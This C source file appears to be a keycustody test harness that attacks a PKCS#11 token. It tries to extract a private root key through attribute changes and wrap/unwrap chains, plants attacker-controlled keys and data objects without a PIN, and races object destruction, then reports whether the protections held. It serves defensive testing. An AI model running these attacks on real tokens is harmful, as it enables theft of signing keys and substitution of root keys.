/* The user-PIN holder's attack on a root key, as raw PKCS#11 calls that any
 * other tool could make (pkcs11-tool, a script, malware with the PIN).
 *
 *   ATTACK_PIN=... attack_p11 extract MODULE TOKEN-LABEL KEY-LABEL
 *
 * Logs in as the user and tries to bring the private key labelled KEY-LABEL
 * out of the token in clear, every way the module's own mechanism list
 * offers:
 *   - read its private exponent; turn CKA_SENSITIVE off or
 *     CKA_WRAP_WITH_TRUSTED off, on the key or on a copy of it;
 *   - wrap it under a key the attacker makes (value known);
 *   - wrap it under every secret key on the token with every mechanism that
 *     can wrap, then unwrap that blob under every secret key with every
 *     mechanism that can unwrap into a key that is not sensitive (or not
 *     wrap-with-trusted, then wrap again under the attacker's key), or
 *     decrypt the blob with every mechanism that can decrypt;
 *   - give any secret key on the token a usage it was not made with
 *     (decrypt, encrypt, derive, wrap, unwrap), make it extractable or not
 *     sensitive, or copy it with such a usage.
 * Prints one "BROKEN: ..." line for each way that worked and exits 1 when
 * any did; exits 0 ("held") when none did; 2 when it could not attack at
 * all (no such token, key or PIN). The PIN comes from the environment, never
 * from argv.
 *
 * The PIN-less attacker with a read-write session (on SoftHSM: anyone who can
 * write the token directory) plants public objects instead:
 *
 *   attack_p11 plant-data MODULE TOKEN-LABEL LABEL FILE
 *       a public CKO_DATA object of application "keycustody" holding FILE
 *   attack_p11 plant-secret MODULE TOKEN-LABEL LABEL ID-HEX
 *       a public AES-256 key of a value the attacker knows (all 0x41), with
 *       every usage, and CKA_ID ID-HEX
 *   attack_p11 plant-rsa MODULE TOKEN-LABEL LABEL ID-HEX
 *       a public RSA key (the attacker's modulus) that wraps and encrypts,
 *       labelled as a root key, with CKA_ID ID-HEX (say, one that sorts
 *       after every real version) and today's start date
 *   attack_p11 loosen-public MODULE TOKEN-LABEL LABEL
 *       CKA_ENCRYPT=TRUE on every public key labelled LABEL
 * Exits 0 when the object was made (or changed), 2 when not.
 *
 * What keycustody's commit of a document rests on (kc_gendoc.c):
 *
 *   attack_p11 destroy-race MODULE TOKEN-LABEL ROUNDS
 *       per round, a public data object is made, two processes find it, wait
 *       at a barrier and destroy it at once; prints how many rounds had
 *       exactly one winner, and what the loser was told while the object was
 *       gone (CKR_OBJECT_HANDLE_INVALID, or CKR_FUNCTION_FAILED). */
#include <p11-kit/pkcs11.h>

#include <dlfcn.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static CK_FUNCTION_LIST *f;
static CK_SESSION_HANDLE s;
static unsigned broken, tried;

#define MAXOBJ 256
#define MAXMECH 256

__attribute__((format(printf, 1, 2))) static void report(const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    printf("BROKEN: ");
    vprintf(fmt, ap);
    printf("\n");
    va_end(ap);
    broken++;
}

static CK_ULONG find(CK_ATTRIBUTE *t, CK_ULONG n, CK_OBJECT_HANDLE *out)
{
    CK_ULONG count = 0;

    if (f->C_FindObjectsInit(s, t, n) != CKR_OK)
        return 0;
    if (f->C_FindObjects(s, out, MAXOBJ, &count) != CKR_OK)
        count = 0;
    f->C_FindObjectsFinal(s);
    return count;
}

static void label_of(CK_OBJECT_HANDLE h, char *buf, size_t cap)
{
    CK_ATTRIBUTE a = {CKA_LABEL, buf, cap - 1};

    if (f->C_GetAttributeValue(s, h, &a, 1) != CKR_OK)
        a.ulValueLen = 0;
    buf[a.ulValueLen < cap ? a.ulValueLen : 0] = '\0';
}

/* Whether the private exponent of h can be read. */
static int exponent_readable(CK_OBJECT_HANDLE h)
{
    unsigned char d[1024];
    CK_ATTRIBUTE a = {CKA_PRIVATE_EXPONENT, d, sizeof(d)};

    tried++;
    return f->C_GetAttributeValue(s, h, &a, 1) == CKR_OK && a.ulValueLen > 0 &&
           a.ulValueLen != CK_UNAVAILABLE_INFORMATION;
}

/* A mechanism with the parameters a test attacker would try first. */
static void mech_for(CK_MECHANISM_TYPE type, CK_MECHANISM *m, unsigned char iv[16],
                     CK_GCM_PARAMS *gcm)
{
    memset(iv, 0, 16);
    m->mechanism = type;
    m->pParameter = NULL;
    m->ulParameterLen = 0;
    switch (type) {
    case CKM_AES_CBC:
    case CKM_AES_CBC_PAD:
    case CKM_AES_CTS:
    case CKM_AES_OFB:
    case CKM_AES_CFB128:
        m->pParameter = iv;
        m->ulParameterLen = 16;
        break;
    case CKM_DES3_CBC:
    case CKM_DES3_CBC_PAD:
    case CKM_DES_CBC:
    case CKM_DES_CBC_PAD:
        m->pParameter = iv;
        m->ulParameterLen = 8;
        break;
    case CKM_AES_CTR: {
        static CK_AES_CTR_PARAMS ctr;
        memset(&ctr, 0, sizeof(ctr));
        ctr.ulCounterBits = 32;
        m->pParameter = &ctr;
        m->ulParameterLen = sizeof(ctr);
        break;
    }
    case CKM_AES_GCM:
        memset(gcm, 0, sizeof(*gcm));
        gcm->pIv = iv;
        gcm->ulIvLen = 12;
        gcm->ulIvBits = 96;
        gcm->ulTagBits = 128;
        m->pParameter = gcm;
        m->ulParameterLen = sizeof(*gcm);
        break;
    default:
        break;
    }
}

static CK_ULONG mechs_with(CK_SLOT_ID slot, CK_FLAGS flag, CK_MECHANISM_TYPE *out)
{
    CK_MECHANISM_TYPE all[MAXMECH];
    CK_ULONG n = MAXMECH, i, k = 0;
    CK_MECHANISM_INFO info;

    if (f->C_GetMechanismList(slot, all, &n) != CKR_OK)
        return 0;
    for (i = 0; i < n && i < MAXMECH; i++) {
        memset(&info, 0, sizeof(info)); /* SoftHSM 2.6.1 ORs into the caller's flags */
        if (f->C_GetMechanismInfo(slot, all[i], &info) == CKR_OK && (info.flags & flag))
            out[k++] = all[i];
    }
    return k;
}

/* Attacker-made AES key: value chosen by the attacker, so whatever it wraps
 * is in clear to them. */
static CK_OBJECT_HANDLE own_key(void)
{
    CK_OBJECT_CLASS cls = CKO_SECRET_KEY;
    CK_KEY_TYPE kt = CKK_AES;
    CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
    unsigned char value[32] = {0x41};
    CK_ATTRIBUTE t[] = {
        {CKA_CLASS, &cls, sizeof(cls)},      {CKA_KEY_TYPE, &kt, sizeof(kt)},
        {CKA_TOKEN, &no, sizeof(no)},        {CKA_VALUE, value, sizeof(value)},
        {CKA_WRAP, &yes, sizeof(yes)},       {CKA_UNWRAP, &yes, sizeof(yes)},
        {CKA_ENCRYPT, &yes, sizeof(yes)},    {CKA_DECRYPT, &yes, sizeof(yes)},
        {CKA_EXTRACTABLE, &yes, sizeof(yes)}, {CKA_SENSITIVE, &no, sizeof(no)},
    };
    CK_OBJECT_HANDLE h = CK_INVALID_HANDLE;

    if (f->C_CreateObject(s, t, sizeof(t) / sizeof(t[0]), &h) != CKR_OK)
        return CK_INVALID_HANDLE;
    return h;
}

static int wrap(CK_MECHANISM_TYPE mt, CK_OBJECT_HANDLE kek, CK_OBJECT_HANDLE key,
                unsigned char *out, CK_ULONG *len)
{
    unsigned char iv[16];
    CK_GCM_PARAMS gcm;
    CK_MECHANISM m;

    mech_for(mt, &m, iv, &gcm);
    tried++;
    return f->C_WrapKey(s, &m, kek, key, out, len) == CKR_OK;
}

/* Unwraps blob under u into a session private key with the given
 * protecting attributes; a key that comes out readable, or wrappable under
 * the attacker's key, is a break. */
static void try_unwrap(CK_SLOT_ID slot, CK_OBJECT_HANDLE u, const char *ulabel,
                       const unsigned char *blob, CK_ULONG blen, CK_OBJECT_HANDLE mine)
{
    CK_MECHANISM_TYPE mts[MAXMECH], wts[MAXMECH];
    CK_ULONG nm = mechs_with(slot, CKF_UNWRAP, mts), nw = mechs_with(slot, CKF_WRAP, wts), i, j;
    CK_OBJECT_CLASS cls = CKO_PRIVATE_KEY;
    CK_KEY_TYPE kt = CKK_RSA;
    CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
    CK_ATTRIBUTE t[7] = {
        {CKA_CLASS, &cls, sizeof(cls)},      {CKA_KEY_TYPE, &kt, sizeof(kt)},
        {CKA_TOKEN, &no, sizeof(no)},        {CKA_PRIVATE, &yes, sizeof(yes)},
        {CKA_EXTRACTABLE, &yes, sizeof(yes)}, {CKA_SENSITIVE, &no, sizeof(no)},
        {CKA_WRAP_WITH_TRUSTED, &no, sizeof(no)},
    };
    unsigned char iv[16], again[8192];
    CK_GCM_PARAMS gcm;
    CK_MECHANISM m;
    CK_OBJECT_HANDLE h;
    CK_ULONG alen;
    int pass;

    for (i = 0; i < nm; i++)
        for (pass = 0; pass < 3; pass++) {
            /* pass 0: not sensitive; pass 1: sensitive but not wrap-with-trusted;
             * pass 2: neither named, so the module's defaults decide */
            t[5].pValue = pass == 0 ? &no : &yes;
            mech_for(mts[i], &m, iv, &gcm);
            h = CK_INVALID_HANDLE;
            tried++;
            if (f->C_UnwrapKey(s, &m, u, (CK_BYTE_PTR)blob, blen, t, pass == 2 ? 5 : 7, &h) !=
                CKR_OK)
                continue;
            if (exponent_readable(h))
                report("unwrapped under '%s' (mechanism 0x%lx) into a key that is not sensitive",
                       ulabel, mts[i]);
            for (j = 0; mine != CK_INVALID_HANDLE && j < nw; j++) {
                alen = sizeof(again);
                if (wrap(wts[j], mine, h, again, &alen))
                    report("unwrapped under '%s' and wrapped again under the attacker's key "
                           "(mechanism 0x%lx)",
                           ulabel, wts[j]);
            }
            f->C_DestroyObject(s, h);
        }
}

static int contains(const unsigned char *hay, size_t n, const unsigned char *needle, size_t k)
{
    size_t i;

    for (i = 0; k > 0 && i + k <= n; i++)
        if (memcmp(hay + i, needle, k) == 0)
            return 1;
    return 0;
}

/* A decryption of the wrapped key is a break when what comes out is the key:
 * its PKCS#8 holds the modulus in clear, so the modulus shows it (a stream
 * mode "decrypts" anything to noise). */
static void try_decrypt(CK_SLOT_ID slot, CK_OBJECT_HANDLE u, const char *ulabel,
                        const unsigned char *blob, CK_ULONG blen, const unsigned char *modulus,
                        size_t mlen)
{
    CK_MECHANISM_TYPE mts[MAXMECH];
    CK_ULONG nm = mechs_with(slot, CKF_DECRYPT, mts), i, olen;
    unsigned char iv[16], out[8192];
    CK_GCM_PARAMS gcm;
    CK_MECHANISM m;

    for (i = 0; i < nm; i++) {
        mech_for(mts[i], &m, iv, &gcm);
        olen = sizeof(out);
        tried++;
        if (f->C_DecryptInit(s, &m, u) == CKR_OK) {
            if (f->C_Decrypt(s, (CK_BYTE_PTR)blob, blen, out, &olen) == CKR_OK &&
                contains(out, olen, modulus, mlen))
                report("decrypted the wrapped key with '%s' (mechanism 0x%lx)", ulabel, mts[i]);
        }
    }
}

/* Tries to loosen what a secret key may do, in place and on a copy. */
static void loosen(CK_OBJECT_HANDLE k, const char *label)
{
    static const CK_ATTRIBUTE_TYPE usages[] = {CKA_DECRYPT, CKA_ENCRYPT, CKA_DERIVE,
                                               CKA_WRAP,    CKA_UNWRAP,  CKA_EXTRACTABLE};
    static const char *names[] = {"CKA_DECRYPT", "CKA_ENCRYPT", "CKA_DERIVE",
                                  "CKA_WRAP",    "CKA_UNWRAP",  "CKA_EXTRACTABLE"};
    CK_BBOOL yes = CK_TRUE, no = CK_FALSE, cur;
    CK_ATTRIBUTE a;
    CK_OBJECT_HANDLE copy;
    size_t i;

    for (i = 0; i < sizeof(usages) / sizeof(usages[0]); i++) {
        cur = CK_FALSE;
        a = (CK_ATTRIBUTE){usages[i], &cur, sizeof(cur)};
        if (f->C_GetAttributeValue(s, k, &a, 1) != CKR_OK || cur == CK_TRUE)
            continue; /* what it was made with is not a loosening */
        a = (CK_ATTRIBUTE){usages[i], &yes, sizeof(yes)};
        tried++;
        if (f->C_SetAttributeValue(s, k, &a, 1) == CKR_OK)
            report("secret key '%s' took %s=TRUE", label, names[i]);
        copy = CK_INVALID_HANDLE;
        tried++;
        if (f->C_CopyObject(s, k, &a, 1, &copy) == CKR_OK) {
            report("secret key '%s' was copied with %s=TRUE", label, names[i]);
            f->C_DestroyObject(s, copy);
        }
    }
    a = (CK_ATTRIBUTE){CKA_SENSITIVE, &no, sizeof(no)};
    tried++;
    if (f->C_SetAttributeValue(s, k, &a, 1) == CKR_OK)
        report("secret key '%s' was made not sensitive", label);
}

static int open_token(const char *module, const char *token, CK_SLOT_ID *slot)
{
    CK_RV (*get)(CK_FUNCTION_LIST_PTR_PTR);
    CK_SLOT_ID slots[64];
    CK_ULONG nslots = 64, i, j;
    CK_TOKEN_INFO ti;
    char label[33];
    void *lib;

    if ((lib = dlopen(module, RTLD_NOW)) == NULL ||
        (get = (CK_RV(*)(CK_FUNCTION_LIST_PTR_PTR))dlsym(lib, "C_GetFunctionList")) == NULL ||
        get(&f) != CKR_OK || f->C_Initialize(NULL) != CKR_OK ||
        f->C_GetSlotList(CK_TRUE, slots, &nslots) != CKR_OK) {
        fprintf(stderr, "attack_p11: cannot load %s\n", module);
        return 0;
    }
    for (i = 0; i < nslots; i++) {
        if (f->C_GetTokenInfo(slots[i], &ti) != CKR_OK)
            continue;
        memcpy(label, ti.label, 32);
        for (j = 32; j > 0 && label[j - 1] == ' '; j--)
            ;
        label[j] = '\0';
        if (strcmp(label, token) == 0) {
            *slot = slots[i];
            return f->C_OpenSession(slots[i], CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL,
                                    &s) == CKR_OK;
        }
    }
    fprintf(stderr, "attack_p11: no token '%s'\n", token);
    return 0;
}

/* No login: what anyone with a read-write session can make. */
static int plant(int argc, char **argv)
{
    CK_OBJECT_CLASS dcls = CKO_DATA, scls = CKO_SECRET_KEY;
    CK_KEY_TYPE kt = CKK_AES;
    CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
    static unsigned char buf[1 << 20];
    unsigned char id[64], value[32];
    CK_OBJECT_HANDLE h;
    CK_SLOT_ID slot;
    size_t n = 0, i;
    unsigned b;
    FILE *in;
    CK_RV rv;

    if (strcmp(argv[1], "loosen-public") == 0) {
        CK_OBJECT_CLASS pc = CKO_PUBLIC_KEY;
        CK_OBJECT_HANDLE found[MAXOBJ];
        CK_ATTRIBUTE enc = {CKA_ENCRYPT, &yes, sizeof(yes)};
        CK_ULONG k, nf;
        if (argc != 5 || !open_token(argv[2], argv[3], &slot))
            return 2;
        {
            CK_ATTRIBUTE t[] = {{CKA_CLASS, &pc, sizeof(pc)}, {CKA_LABEL, argv[4], strlen(argv[4])}};
            nf = find(t, 2, found);
        }
        rv = nf > 0 ? CKR_OK : CKR_GENERAL_ERROR;
        for (k = 0; k < nf && rv == CKR_OK; k++)
            rv = f->C_SetAttributeValue(s, found[k], &enc, 1);
        f->C_CloseSession(s);
        f->C_Finalize(NULL);
        if (rv != CKR_OK)
            return 2;
        printf("set CKA_ENCRYPT on %lu public key(s) '%s' without a PIN\n", nf, argv[4]);
        return 0;
    }
    if (argc != 6 || !open_token(argv[2], argv[3], &slot))
        return 2;
    if (strcmp(argv[1], "plant-rsa") == 0) {
        CK_OBJECT_CLASS pc = CKO_PUBLIC_KEY;
        CK_KEY_TYPE rsa = CKK_RSA;
        static unsigned char modulus[256];
        unsigned char exponent[] = {0x01, 0x00, 0x01};
        CK_DATE today;
        time_t now = time(NULL);
        struct tm tm;
        char d[9];

        for (i = 0; i < sizeof(id) && sscanf(argv[5] + 2 * i, "%2x", &b) == 1; i++)
            id[i] = (unsigned char)b;
        memset(modulus, 0xc7, sizeof(modulus)); /* odd, full length: a modulus to the module */
        gmtime_r(&now, &tm);
        strftime(d, sizeof(d), "%Y%m%d", &tm);
        memcpy(today.year, d, 4);
        memcpy(today.month, d + 4, 2);
        memcpy(today.day, d + 6, 2);
        {
            CK_ATTRIBUTE t[] = {
                {CKA_CLASS, &pc, sizeof(pc)},          {CKA_KEY_TYPE, &rsa, sizeof(rsa)},
                {CKA_TOKEN, &yes, sizeof(yes)},        {CKA_PRIVATE, &no, sizeof(no)},
                {CKA_LABEL, argv[4], strlen(argv[4])}, {CKA_ID, id, i},
                {CKA_MODULUS, modulus, sizeof(modulus)}, {CKA_PUBLIC_EXPONENT, exponent, 3},
                {CKA_WRAP, &yes, sizeof(yes)},         {CKA_ENCRYPT, &yes, sizeof(yes)},
                {CKA_START_DATE, &today, sizeof(today)},
            };
            rv = f->C_CreateObject(s, t, sizeof(t) / sizeof(t[0]), &h);
        }
    } else if (strcmp(argv[1], "plant-data") == 0) {
        in = fopen(argv[5], "rb");
        if (in == NULL)
            return 2;
        n = fread(buf, 1, sizeof(buf), in);
        fclose(in);
        {
            CK_ATTRIBUTE t[] = {
                {CKA_CLASS, &dcls, sizeof(dcls)},
                {CKA_TOKEN, &yes, sizeof(yes)},
                {CKA_PRIVATE, &no, sizeof(no)},
                {CKA_APPLICATION, (void *)"keycustody", 10},
                {CKA_LABEL, argv[4], strlen(argv[4])},
                {CKA_VALUE, buf, n},
            };
            rv = f->C_CreateObject(s, t, sizeof(t) / sizeof(t[0]), &h);
        }
    } else {
        for (i = 0; i < sizeof(id) && sscanf(argv[5] + 2 * i, "%2x", &b) == 1; i++)
            id[i] = (unsigned char)b;
        memset(value, 0x41, sizeof(value));
        {
            CK_ATTRIBUTE t[] = {
                {CKA_CLASS, &scls, sizeof(scls)},    {CKA_KEY_TYPE, &kt, sizeof(kt)},
                {CKA_TOKEN, &yes, sizeof(yes)},      {CKA_PRIVATE, &no, sizeof(no)},
                {CKA_LABEL, argv[4], strlen(argv[4])}, {CKA_ID, id, i},
                {CKA_VALUE, value, sizeof(value)},   {CKA_WRAP, &yes, sizeof(yes)},
                {CKA_UNWRAP, &yes, sizeof(yes)},     {CKA_ENCRYPT, &yes, sizeof(yes)},
                {CKA_DECRYPT, &yes, sizeof(yes)},    {CKA_SIGN, &yes, sizeof(yes)},
                {CKA_VERIFY, &yes, sizeof(yes)},
            };
            rv = f->C_CreateObject(s, t, sizeof(t) / sizeof(t[0]), &h);
        }
    }
    f->C_CloseSession(s);
    f->C_Finalize(NULL);
    if (rv != CKR_OK) {
        fprintf(stderr, "attack_p11: C_CreateObject: 0x%lx\n", rv);
        return 2;
    }
    printf("planted public '%s' on '%s' without a PIN\n", argv[4], argv[3]);
    return 0;
}

/* One side of a destroy race: finds LABEL, says it is ready, waits for the
 * start, destroys. Exits 0 on CKR_OK; 1 when the destroy failed and the
 * object is gone (someone else destroyed it), with CKR_OBJECT_HANDLE_INVALID,
 * 4 the same with CKR_FUNCTION_FAILED; 3 on anything else (printed). */
static int race_side(const char *module, const char *token, const char *label, int ready, int go)
{
    CK_OBJECT_CLASS dcls = CKO_DATA;
    CK_ATTRIBUTE t[] = {{CKA_CLASS, &dcls, sizeof(dcls)}, {CKA_LABEL, (void *)label, strlen(label)}};
    CK_OBJECT_HANDLE h[MAXOBJ];
    CK_SLOT_ID slot;
    CK_ULONG left;
    char c = 'r';
    CK_RV rv;

    if (!open_token(module, token, &slot) || find(t, 2, h) != 1)
        return 3;
    if (write(ready, &c, 1) != 1 || read(go, &c, 1) != 0)
        return 3;
    rv = f->C_DestroyObject(s, h[0]);
    left = rv == CKR_OK ? 0 : find(t, 2, h);
    f->C_CloseSession(s);
    f->C_Finalize(NULL);
    if (rv == CKR_OK)
        return 0;
    if (left == 0 && rv == CKR_OBJECT_HANDLE_INVALID)
        return 1;
    if (left == 0 && rv == CKR_FUNCTION_FAILED)
        return 4;
    fprintf(stderr, "attack_p11: loser told 0x%lx, %lu object(s) left\n", rv, left);
    return 3;
}

static int destroy_race(int argc, char **argv)
{
    CK_OBJECT_CLASS dcls = CKO_DATA;
    CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
    int rounds, round, one = 0, invalid_told = 0, failed_told = 0, other = 0, k;
    char label[64], c;
    CK_OBJECT_HANDLE h;
    CK_SLOT_ID slot;

    if (argc != 5 || (rounds = atoi(argv[4])) <= 0)
        return 2;
    for (round = 0; round < rounds; round++) {
        int ready[2], go[2], status, ok = 0, invalid = 0, failed = 0;
        pid_t kids[2];

        snprintf(label, sizeof(label), "race-%d-%d", (int)getpid(), round);
        if (!open_token(argv[2], argv[3], &slot))
            return 2;
        {
            CK_ATTRIBUTE t[] = {
                {CKA_CLASS, &dcls, sizeof(dcls)},     {CKA_TOKEN, &yes, sizeof(yes)},
                {CKA_PRIVATE, &no, sizeof(no)},       {CKA_LABEL, label, strlen(label)},
                {CKA_VALUE, (void *)"race", 4},
            };
            if (f->C_CreateObject(s, t, sizeof(t) / sizeof(t[0]), &h) != CKR_OK)
                return 2;
        }
        f->C_CloseSession(s);
        f->C_Finalize(NULL); /* the children start their own library */
        if (pipe(ready) != 0 || pipe(go) != 0)
            return 2;
        for (k = 0; k < 2; k++) {
            kids[k] = fork();
            if (kids[k] == 0) {
                close(ready[0]);
                close(go[1]);
                _exit(race_side(argv[2], argv[3], label, ready[1], go[0]));
            }
        }
        close(ready[1]);
        close(go[0]);
        for (k = 0; k < 2; k++)
            if (read(ready[0], &c, 1) != 1)
                break;
        close(go[1]); /* both start now */
        close(ready[0]);
        for (k = 0; k < 2; k++) {
            if (waitpid(kids[k], &status, 0) < 0 || !WIFEXITED(status))
                continue;
            ok += WEXITSTATUS(status) == 0;
            invalid += WEXITSTATUS(status) == 1;
            failed += WEXITSTATUS(status) == 4;
        }
        one += ok == 1;
        invalid_told += ok == 1 && invalid == 1;
        failed_told += ok == 1 && failed == 1;
        other += ok != 1 || invalid + failed != 1;
    }
    printf("rounds %d, exactly one winner %d, loser told CKR_OBJECT_HANDLE_INVALID %d, "
           "CKR_FUNCTION_FAILED %d, other %d\n",
           rounds, one, invalid_told, failed_told, other);
    return 0;
}

int main(int argc, char **argv)
{
    CK_SLOT_ID slot = 0;
    CK_ULONG i, j, k, nsec, nroot, nwm;
    CK_OBJECT_HANDLE root[MAXOBJ], sec[MAXOBJ], mine, copy;
    CK_MECHANISM_TYPE wm[MAXMECH];
    CK_OBJECT_CLASS pcls = CKO_PRIVATE_KEY, scls = CKO_SECRET_KEY;
    CK_BBOOL no = CK_FALSE;
    CK_ATTRIBUTE a;
    char klabel[129];
    unsigned char blob[8192], modulus[1024];
    CK_ULONG blen, mlen;
    const char *pin = getenv("ATTACK_PIN");

    if (argc > 1 && (strncmp(argv[1], "plant-", 6) == 0 || strcmp(argv[1], "loosen-public") == 0))
        return plant(argc, argv);
    if (argc > 1 && strcmp(argv[1], "destroy-race") == 0)
        return destroy_race(argc, argv);
    if (argc != 5 || strcmp(argv[1], "extract") != 0 || pin == NULL) {
        fprintf(stderr, "usage: ATTACK_PIN=... attack_p11 extract MODULE TOKEN-LABEL KEY-LABEL\n"
                        "       attack_p11 plant-data MODULE TOKEN-LABEL LABEL FILE\n"
                        "       attack_p11 plant-secret MODULE TOKEN-LABEL LABEL ID-HEX\n"
                        "       attack_p11 plant-rsa MODULE TOKEN-LABEL LABEL ID-HEX\n"
                        "       attack_p11 loosen-public MODULE TOKEN-LABEL LABEL\n"
                        "       attack_p11 destroy-race MODULE TOKEN-LABEL ROUNDS\n");
        return 2;
    }
    argv++; /* MODULE TOKEN KEY from here on */
    if (!open_token(argv[1], argv[2], &slot) ||
        f->C_Login(s, CKU_USER, (CK_UTF8CHAR_PTR)pin, strlen(pin)) != CKR_OK) {
        fprintf(stderr, "attack_p11: the PIN is refused on '%s'\n", argv[2]);
        return 2;
    }
    {
        CK_ATTRIBUTE t[] = {{CKA_CLASS, &pcls, sizeof(pcls)}, {CKA_LABEL, argv[3], strlen(argv[3])}};
        nroot = find(t, 2, root);
    }
    {
        CK_ATTRIBUTE t[] = {{CKA_CLASS, &scls, sizeof(scls)}};
        nsec = find(t, 1, sec);
    }
    if (nroot == 0) {
        fprintf(stderr, "attack_p11: no private key '%s' on '%s'\n", argv[3], argv[2]);
        return 2;
    }
    mine = own_key();
    nwm = mechs_with(slot, CKF_WRAP, wm);
    for (i = 0; i < nroot; i++) {
        if (exponent_readable(root[i]))
            report("the private exponent of '%s' is readable", argv[3]);
        a = (CK_ATTRIBUTE){CKA_SENSITIVE, &no, sizeof(no)};
        tried++;
        if (f->C_SetAttributeValue(s, root[i], &a, 1) == CKR_OK && exponent_readable(root[i]))
            report("'%s' was made not sensitive", argv[3]);
        a = (CK_ATTRIBUTE){CKA_WRAP_WITH_TRUSTED, &no, sizeof(no)};
        tried++;
        if (f->C_SetAttributeValue(s, root[i], &a, 1) == CKR_OK)
            report("'%s' was made wrappable under any key", argv[3]);
        for (k = 0; k < 2; k++) {
            a = (CK_ATTRIBUTE){k == 0 ? CKA_SENSITIVE : CKA_WRAP_WITH_TRUSTED, &no, sizeof(no)};
            copy = CK_INVALID_HANDLE;
            tried++;
            if (f->C_CopyObject(s, root[i], &a, 1, &copy) == CKR_OK) {
                report(k == 0 ? "'%s' was copied as not sensitive"
                              : "'%s' was copied as wrappable under any key",
                       argv[3]);
                f->C_DestroyObject(s, copy);
            }
        }
        for (j = 0; mine != CK_INVALID_HANDLE && j < nwm; j++) {
            blen = sizeof(blob);
            if (wrap(wm[j], mine, root[i], blob, &blen))
                report("'%s' was wrapped under the attacker's own key (mechanism 0x%lx)", argv[3],
                       wm[j]);
        }
        a = (CK_ATTRIBUTE){CKA_MODULUS, modulus, sizeof(modulus)};
        mlen = f->C_GetAttributeValue(s, root[i], &a, 1) == CKR_OK ? a.ulValueLen : 0;
        if (mlen > 32)
            mlen = 32; /* its first 32 bytes are proof enough */
        for (k = 0; k < nsec; k++) {
            label_of(sec[k], klabel, sizeof(klabel));
            for (j = 0; j < nwm; j++) {
                CK_ULONG u;
                blen = sizeof(blob);
                if (!wrap(wm[j], sec[k], root[i], blob, &blen))
                    continue;
                printf("wrapped '%s' under '%s' (mechanism 0x%lx): %lu bytes\n", argv[3], klabel,
                       wm[j], blen);
                for (u = 0; u < nsec; u++) {
                    char ulabel[129];
                    label_of(sec[u], ulabel, sizeof(ulabel));
                    try_unwrap(slot, sec[u], ulabel, blob, blen, mine);
                    try_decrypt(slot, sec[u], ulabel, blob, blen, modulus, mlen);
                }
            }
        }
    }
    for (k = 0; k < nsec; k++) {
        label_of(sec[k], klabel, sizeof(klabel));
        loosen(sec[k], klabel);
    }
    if (mine != CK_INVALID_HANDLE)
        f->C_DestroyObject(s, mine);
    f->C_Logout(s);
    f->C_CloseSession(s);
    f->C_Finalize(NULL);
    printf("%s: %u attempts on '%s', %u secret keys on the token\n", broken ? "broken" : "held",
           tried, argv[3], (unsigned)nsec);
    return broken ? 1 : 0;
}
